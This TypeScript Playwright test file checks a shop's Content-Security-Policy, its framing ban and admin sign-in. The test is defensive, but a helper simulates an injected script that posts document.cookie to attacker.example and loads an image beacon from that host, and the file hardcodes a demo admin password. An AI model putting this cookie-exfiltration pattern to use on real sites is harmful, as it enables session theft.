import type { Page, Response } from "@playwright/test"
import { expect, test } from "./support"

const STAFF = { email: "admin@buildyourfit.test", password: "admin-demo-2026" }
const ELSEWHERE = "https://attacker.example"

function expectPagePolicy(response: Response | null) {
  const headers = response?.headers() ?? {}
  const policy = headers["content-security-policy"] ?? ""
  for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "connect-src 'self'"]) {
    expect(policy).toContain(directive)
  }
  expect(policy).toMatch(/script-src 'self'[^;]*;/)
  expect(policy).not.toContain("unsafe-eval")
  expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/)
  expect(headers["x-frame-options"]).toBe("DENY")
}

/** What a script injected into the page tries: run inline, then send what it found elsewhere by fetch and by an image. */
async function injectedScriptRuns(page: Page): Promise<boolean> {
  return page.evaluate(async (elsewhere) => {
    const flags = window as unknown as { injectedScriptRan?: boolean }
    const script = document.createElement("script")
    script.textContent = "window.injectedScriptRan = true"
    document.head.append(script)
    await fetch(`${elsewhere}/collect`, { method: "POST", body: document.cookie }).catch(() => undefined)
    await new Promise((resolve) => {
      const beacon = new Image()
      beacon.onload = beacon.onerror = resolve
      beacon.src = `${elsewhere}/pixel.gif`
    })
    return flags.injectedScriptRan === true
  }, ELSEWHERE)
}

test("the shop's pages carry the policy and the framing ban, and a script injected into them can't run or send anything", async ({
  page,
  baseURL,
  cspViolations,
}) => {
  const home = await page.goto("/")
  expectPagePolicy(home)
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Build Your Fit")

  // The page's own inline script is refused and reported; the exfiltration attempts are refused too.
  cspViolations.allow((violation) => violation.blockedURI === "inline" && violation.directive.startsWith("script-src"))
  cspViolations.allow((violation) => violation.blockedURI.startsWith(ELSEWHERE))
  expect(await injectedScriptRuns(page)).toBe(false)
  await expect
    .poll(() => cspViolations.reported.map(({ directive, blockedURI }) => `${directive} ${blockedURI.replace(/\/[^/]*$/, "")}`).sort())
    .toEqual(["connect-src https://attacker.example", "img-src https://attacker.example", "script-src-elem inline"])

  // Another site can't frame the shop: Chromium shows its error page in the frame instead.
  await page.goto("about:blank")
  await page.setContent(`<iframe title="framed shop" src="${new URL("/", baseURL).href}"></iframe>`)
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
  await expect(page.frameLocator("iframe").locator("#root")).toHaveCount(0)
})

test("the console's pages carry the policy and the framing ban, and staff sign in and see the dashboard under it", async ({ page }) => {
  const console = await page.goto("/admin")
  expectPagePolicy(console)
  await page.getByLabel("Email").fill(STAFF.email)
  await page.getByLabel(/^Password/).fill(STAFF.password)
  await page.getByRole("button", { name: "Sign in" }).click()
  await expect(page.getByRole("heading", { name: "Admin Dashboard" })).toBeVisible()
})
